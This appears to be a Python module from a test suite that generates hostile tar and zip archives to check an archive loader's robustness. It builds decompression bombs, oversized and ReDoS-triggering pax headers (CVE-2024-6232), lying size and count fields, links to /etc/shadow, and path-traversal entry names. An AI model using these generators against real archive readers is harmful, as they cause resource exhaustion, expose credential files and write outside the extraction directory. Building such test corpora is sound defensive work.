"""Archives built to exhaust a reader: oversized headers, bombs, lying directories, trailers, links.

Large contents are produced as streams of repeated chunks and compressed on the way, so a
150 MB long name costs this process a few hundred kB.
"""

from __future__ import annotations

import bz2
import hashlib
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Iterator

from bench.hostile_corpus import Attack, as_attack
from bench.hostile_corpus.adapter import CONFIG, WEIGHTS, Adapter

CHUNK = 1024 * 1024


def repeated(byte: bytes, size: int) -> Iterator[bytes]:
    block = byte * CHUNK
    while size > 0:
        yield block[:size]
        size -= CHUNK


def compress(chunks: Iterable[bytes], how: str) -> bytes:
    """gzip, bzip2 or xz of the chunks, or the chunks themselves for "none"."""
    if how == "none":
        return b"".join(chunks)
    if how == "gzip":
        return gzip_of(chunks)
    packer = bz2.BZ2Compressor() if how == "bzip2" else lzma.LZMACompressor()
    out = [packer.compress(chunk) for chunk in chunks]
    return b"".join(out) + packer.flush()


def gzip_of(chunks: Iterable[bytes]) -> bytes:
    """One gzip member. Each chunk is deflated on its own (a full flush forgets the history), so a
    chunk equal to the one before reuses its deflated bytes: 512 MiB of zeros take a fraction
    of a second."""
    out, crc, size = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"], 0, 0
    packer, last, last_packed = zlib.compressobj(6, zlib.DEFLATED, -15), None, b""
    for chunk in chunks:
        if chunk != last:
            last, last_packed = chunk, packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
        out.append(last_packed)
        crc, size = zlib.crc32(chunk, crc), size + len(chunk)
    out.append(packer.flush() + struct.pack("<II", crc, size % 2**32))
    return b"".join(out)


def header(name: str, *, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str = "",
           fmt: int = tarfile.GNU_FORMAT) -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname, info.mode = kind, size, link, 0o644
    return info.tobuf(format=fmt)


def member(name: str, data: bytes, **kwargs) -> bytes:
    return header(name, size=len(data), **kwargs) + data + b"\0" * (-len(data) % 512)


def end() -> bytes:
    return b"\0" * 1024


def suffix(how: str) -> str:
    return {"none": ".tar", "gzip": ".tar.gz", "bzip2": ".tar.gz", "xz": ".tgz"}[how]


def adapter_tar(adapter: Adapter) -> bytes:
    return b"".join(member(name, data) for name, data in adapter.files()) + end()


# --- tar ------------------------------------------------------------------------------------


def tar_long_name(size: int, kind: str, how: str) -> Attack:
    """One GNU long-name (or pax path) record of `size` bytes; no PEFT files."""
    record_type = tarfile.GNUTYPE_LONGNAME if kind == "gnu" else tarfile.XHDTYPE
    if kind == "gnu":
        body: Iterable[bytes] = repeated(b"a", size)
    else:  # one pax record "<length> path=aaa...\n", its length counting itself
        digits = len(str(size))
        prefix = f"{size} path=".encode()
        body = [prefix, *repeated(b"a", size - len(prefix) - 1), b"\n"] if size > digits + 7 else [b"x" * size]
    chunks = [header("././@LongLink", kind=record_type, size=size, fmt=tarfile.USTAR_FORMAT),
              *body, b"\0" * (-size % 512), member("notes.txt", b"hi"), end()]
    return as_attack(f"tar_long_name/{kind}/{how}/{size}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_header_chain(count: int, how: str) -> Attack:
    """`count` long-name records in a row before one entry: each small, together large."""
    one = header("././@LongLink", kind=tarfile.GNUTYPE_LONGNAME, size=1000, fmt=tarfile.USTAR_FORMAT)
    one += b"b" * 1000 + b"\0" * 24
    chunks = [one * count, member("notes.txt", b"hi"), end()]
    return as_attack(f"tar_header_chain/{how}/{count}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_sparse_map(entries: int, how: str) -> Attack:
    """A pax GNU sparse 1.0 entry whose map, read before any limit on entries, lists `entries`
    regions."""
    records = b"".join(_pax_record(key, value) for key, value in
                       (("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"),
                        ("GNU.sparse.name", "sparse"), ("GNU.sparse.realsize", "1")))
    sparse_map = f"{entries}\n".encode() + b"0\n1\n" * entries
    chunks = [header("pax", kind=tarfile.XHDTYPE, size=len(records), fmt=tarfile.USTAR_FORMAT),
              records + b"\0" * (-len(records) % 512),
              header("sparse", size=len(sparse_map), fmt=tarfile.USTAR_FORMAT),
              sparse_map + b"\0" * (-len(sparse_map) % 512), end()]
    return as_attack(f"tar_sparse_map/{how}/{entries}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_pax_digits(size: int, entries: int, how: str) -> Attack:
    """`entries` empty files, each after a pax header of `size` ASCII '1's (CVE-2024-6232): tarfile's
    pax regexes backtrack quadratically over them, 64 KiB taking seconds with the GIL held."""
    one = header("pax", kind=tarfile.XHDTYPE, size=size, fmt=tarfile.USTAR_FORMAT)
    chunks = [part for index in range(entries)
              for part in (one, *repeated(b"1", size), b"\0" * (-size % 512), header(f"f{index}"))]
    return as_attack(f"tar_pax_digits/{how}/{size}/{entries}",
                     [(f"a{suffix(how)}", compress([*chunks, end()], how))])


def tar_pax_payload(payload: bytes, how: str) -> Attack:
    """One pax header holding these bytes, then an empty file: no PEFT files in any case."""
    chunks = [header("pax", kind=tarfile.XHDTYPE, size=len(payload), fmt=tarfile.USTAR_FORMAT),
              payload, b"\0" * (-len(payload) % 512), header("notes.txt"), end()]
    digest = hashlib.sha256(payload).hexdigest()[:16]
    return as_attack(f"tar_pax_payload/{how}/{len(payload)}/{digest}",
                     [(f"a{suffix(how)}", compress(chunks, how))])


def tar_old_sparse(extension_blocks: int, how: str) -> Attack:
    """An old GNU sparse entry followed by `extension_blocks` blocks of its sparse map."""
    block = bytearray(header("sparse", kind=tarfile.GNUTYPE_SPARSE, size=0))
    block[482] = 1  # isextended
    _sign(block)
    extension = bytearray(512)
    extension[0:24] = b"%011o\0%011o\0" % (0, 1)
    extension[504] = 1
    last = bytearray(extension)
    last[504] = 0
    chunks = [bytes(block), *(bytes(extension) for _ in range(extension_blocks - 1)), bytes(last), end()]
    return as_attack(f"tar_old_sparse/{how}/{extension_blocks}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_trailing(adapter: Adapter, size: int, how: str, byte: bytes = b"\0") -> Attack:
    """The adapter, then `size` more bytes inside the same compressed stream."""
    chunks = [adapter_tar(adapter), *repeated(byte, size)]
    return as_attack(f"tar_trailing/{how}/{size}/{byte.hex()}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_after_gzip(adapter: Adapter, extra: str) -> Attack:
    """The adapter as .tar.gz, then bytes after the gzip stream: garbage or a second stream."""
    packed = compress([adapter_tar(adapter)], "gzip")
    tail = {"garbage": b"\xffjunk" * 100, "second_member": compress([adapter_tar(adapter)], "gzip"),
            "zero_then_garbage": b"\0" * 4096 + b"x"}[extra]
    return as_attack(f"tar_after_gzip/{extra}", [("a.tar.gz", packed + tail)])


def tar_bomb(declared: int, how: str) -> Attack:
    """An entry that declares `declared` bytes and holds a little of it."""
    chunks = [header(WEIGHTS, size=declared), *repeated(b"\0", min(declared, 4 * CHUNK)), end()]
    return as_attack(f"tar_bomb/{how}/{declared}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_many(count: int, how: str) -> Attack:
    chunks = [member(f"f{index}", b"x") for index in range(count)] + [end()]
    return as_attack(f"tar_many/{how}/{count}", [(f"a{suffix(how)}", compress(chunks, how))])


TAR_SPECIALS = {
    "symlink": dict(name=WEIGHTS, kind=tarfile.SYMTYPE, link="/etc/shadow"),
    "hardlink": dict(name=WEIGHTS, kind=tarfile.LNKTYPE, link="/etc/shadow"),
    "chrdev": dict(name="tty", kind=tarfile.CHRTYPE),
    "blkdev": dict(name="sda", kind=tarfile.BLKTYPE),
    "fifo": dict(name="pipe", kind=tarfile.FIFOTYPE),
    "absolute": dict(name="/etc/" + CONFIG),
    "dotdot": dict(name="../../" + CONFIG),
    "backslash": dict(name="..\\..\\" + CONFIG),
    "drive": dict(name="C:" + CONFIG),
}


def tar_special(adapter: Adapter, kind: str, how: str) -> Attack:
    """The adapter's files, and one link, device or escaping path beside them."""
    spec = dict(TAR_SPECIALS[kind])
    name = spec.pop("name")
    chunks = [*(member(n, d) for n, d in adapter.files()), header(name, **spec), end()]
    return as_attack(f"tar_special/{kind}/{how}", [(f"a{suffix(how)}", compress(chunks, how))])


def tar_truncated(adapter: Adapter, keep_permille: int) -> Attack:
    packed = compress([adapter_tar(adapter)], "gzip")
    return as_attack(f"tar_truncated/{keep_permille}", [("a.tar.gz", packed[:len(packed) * keep_permille // 1000])])


def _pax_record(key: str, value: str) -> bytes:
    text = f" {key}={value}\n".encode()
    length = len(text) + len(str(len(text)))
    length += len(str(length)) - len(str(len(text)))
    return str(length).encode() + text


def _sign(block: bytearray) -> None:
    block[148:156] = b" " * 8
    block[148:155] = b"%06o\0" % sum(block)


# --- zip ------------------------------------------------------------------------------------


def zip_directory(entries: int, claimed: int, name_bytes: int = 1) -> Attack:
    """A central directory of `entries` headers (no file data at all) under an end record that
    claims `claimed` entries."""
    directory = io.BytesIO()
    for index in range(entries):
        name = str(index).encode().rjust(name_bytes, b"0")
        directory.write(struct.pack(zipfile.structCentralDir, zipfile.stringCentralDir, 20, 3, 20, 0,
                                    0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name)
    size = directory.tell()
    claimed &= 0xFFFF
    end_record = struct.pack(zipfile.structEndArchive, zipfile.stringEndArchive, 0, 0, claimed, claimed,
                             size, 0, 0)
    return as_attack(f"zip_directory/{entries}/{claimed}/{name_bytes}",
                     [("a.zip", directory.getvalue() + end_record)])


def zip_of(files: list[tuple[zipfile.ZipInfo | str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(adapter: Adapter, expanded: int) -> Attack:
    """The config, and weights that deflate from a few kB to `expanded` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(CONFIG, adapter.config_bytes())
        with archive.open(WEIGHTS, "w", force_zip64=True) as sink:
            for chunk in repeated(b"\0", expanded):
                sink.write(chunk)
    return as_attack(f"zip_bomb/{expanded}", [("a.zip", buffer.getvalue())])


def zip_lying_size(adapter: Adapter, short_by: int) -> Attack:
    """The weights' entry says it expands to `short_by` (at least 1) bytes less than it does."""
    declared = max(len(adapter.weights) - max(short_by, 1), 0)
    packed = bytearray(zip_of(adapter.files()))
    with zipfile.ZipFile(io.BytesIO(bytes(packed))) as archive:
        local, directory = archive.getinfo(WEIGHTS).header_offset, archive.start_dir
    central = packed.find(WEIGHTS.encode(), directory) - zipfile.sizeCentralDir
    packed[local + 22:local + 26] = packed[central + 24:central + 28] = struct.pack("<I", declared)
    return as_attack(f"zip_lying_size/{short_by}", [("a.zip", bytes(packed))])


def zip_method(adapter: Adapter, method: int) -> Attack:
    """The adapter's files compressed with another method (12 bzip2, 14 lzma, or unknown)."""
    if method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        packed = zip_of(adapter.files(), method)
    else:  # stored, then relabelled with a method zipfile does not know
        packed = bytearray(zip_of(adapter.files(), zipfile.ZIP_STORED))
        for signature, offset in ((zipfile.stringFileHeader, 8), (zipfile.stringCentralDir, 10)):
            at = packed.find(signature)
            while at >= 0:
                packed[at + offset:at + offset + 2] = struct.pack("<H", method)
                at = packed.find(signature, at + 4)
        packed = bytes(packed)
    return as_attack(f"zip_method/{method}", [("a.zip", packed)])


def zip_long_fields(name_bytes: int, extra_bytes: int) -> Attack:
    info = zipfile.ZipInfo("n" * name_bytes)
    info.extra = b"\x99\x99" + struct.pack("<H", max(extra_bytes - 4, 0)) + b"e" * max(extra_bytes - 4, 0) \
        if extra_bytes >= 4 else b""
    return as_attack(f"zip_long_fields/{name_bytes}/{extra_bytes}", [("a.zip", zip_of([(info, b"x")]))])


ZIP_SPECIALS = ("symlink", "fifo", "dotdot", "absolute", "encrypted", "zip64_lie", "offset_lie")


def zip_special(adapter: Adapter, kind: str) -> Attack:
    files: list[tuple[zipfile.ZipInfo | str, bytes]] = list(adapter.files())
    if kind in ("symlink", "fifo"):
        info = zipfile.ZipInfo("extra")
        info.external_attr = ((stat.S_IFLNK if kind == "symlink" else stat.S_IFIFO) | 0o777) << 16
        files.append((info, b"/etc/shadow"))
    elif kind in ("dotdot", "absolute"):
        files.append(("../../evil" if kind == "dotdot" else "/etc/evil", b"x"))
    packed = bytearray(zip_of(files))
    if kind == "encrypted":
        at = packed.find(zipfile.stringCentralDir)
        packed[at + 8] |= 1
    elif kind in ("zip64_lie", "offset_lie"):
        at = packed.rfind(zipfile.stringEndArchive)
        field = slice(at + 12, at + 16) if kind == "zip64_lie" else slice(at + 16, at + 20)
        packed[field] = b"\xff\xff\xff\xff" if kind == "zip64_lie" else struct.pack("<I", 2**31)
    return as_attack(f"zip_special/{kind}", [("a.zip", bytes(packed))])


def junk(filename: str, size: int, seed: int) -> Attack:
    """Bytes that are no archive at all, under an archive's name."""
    data = zlib.compress(seed.to_bytes(8, "little")) * (size // 16 + 1)
    return as_attack(f"junk/{filename}/{size}/{seed}", [(filename, data[:size])])
